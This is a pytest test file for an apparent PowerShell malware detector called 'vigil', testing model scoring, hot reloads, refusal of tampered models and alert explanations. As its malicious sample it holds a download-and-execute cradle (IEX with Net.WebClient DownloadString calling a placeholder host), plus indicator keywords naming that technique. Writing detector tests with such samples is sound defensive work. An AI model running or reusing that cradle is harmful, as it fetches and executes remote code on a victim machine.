"""The Scorer: hot swaps between batches, refuses tampered or incompatible models."""

from __future__ import annotations

import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from vigil.errors import FeatureSpecMismatch, IntegrityError, ModelNotFound, ModelReloadWarning
from vigil.runtime import BUILTIN_DETECTIONS
from vigil.store import Store

PublishModel = Callable[..., Any]

MALICIOUS = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
BENIGN = "Get-Service w32time"


def test_scores_are_probabilities_and_nan_for_null(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    scores = bound.score([MALICIOUS, BENIGN, None, ""])
    assert scores[0] > 0.8 > 0.1 > scores[1]
    assert np.isnan(scores[2])
    assert 0.0 <= scores[3] <= 1.0


def test_duplicates_are_scored_once_and_broadcast(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    values = [MALICIOUS, BENIGN] * 50 + [None]
    scores = bound.score(values)
    np.testing.assert_array_equal(scores[:100:2], np.full(50, scores[0]))
    np.testing.assert_array_equal(scores[1:100:2], np.full(50, scores[1]))


def test_promoted_model_is_picked_up_on_the_next_batch(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model(bias=-3.0)
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    before = bound.score([BENIGN])[0]
    second = publish_model(bias=3.0, alias=None)
    store.promote("powershell", second.version)
    after = bound.score([BENIGN])[0]
    assert before < 0.1 < 0.9 < after
    assert bound.scorer.manifest.version == second.version


def test_tampered_model_is_refused_and_previous_version_keeps_serving(
    store: Store, publish_model: PublishModel, tmp_path: Path
) -> None:
    publish_model(bias=-3.0)
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    before = bound.score([BENIGN])
    second = publish_model(bias=3.0, alias=None)
    model_file = tmp_path / "models" / "powershell" / str(second.version) / "model.onnx"
    model_file.write_bytes(model_file.read_bytes() + b"tampered")
    store.promote("powershell", second.version)
    with pytest.warns(ModelReloadWarning, match="sha256"):
        after = bound.score([BENIGN])
    np.testing.assert_array_equal(before, after)
    assert bound.scorer.manifest.version == 1
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # refused once, not re-warned on every batch
        bound.score([BENIGN])


def test_tampered_model_is_refused_at_first_load(
    store: Store, publish_model: PublishModel, tmp_path: Path
) -> None:
    publish_model()
    model_file = tmp_path / "models" / "powershell" / "1" / "model.onnx"
    model_file.write_bytes(b"not the model")
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    with pytest.raises(IntegrityError, match=r"powershell@1"):
        bound.score([BENIGN])


def test_model_for_other_features_is_refused_with_a_way_out(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model(feature_spec="0123456789abcdef")
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    with pytest.raises(
        FeatureSpecMismatch, match=r"expects feature_spec 0123456789abcdef.*vigil train powershell"
    ):
        bound.score([BENIGN])


def test_no_model_yet_says_how_to_train_one(store: Store) -> None:
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    with pytest.raises(ModelNotFound, match="vigil train powershell"):
        bound.score([BENIGN])


def test_explanations_name_indicators_and_driving_groups(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    malicious, null = bound.explain([MALICIOUS, None])
    assert null is None
    assert malicious is not None
    assert malicious.alert
    assert {"iex", "downloadstring", "net.webclient"} <= set(malicious.indicators)
    top_group, delta = malicious.top(1)[0]
    assert top_group in ("download_cradle", "execution")
    assert delta > 0.1
    assert "ALERT" in str(malicious)
    assert "download_cradle" in str(malicious)
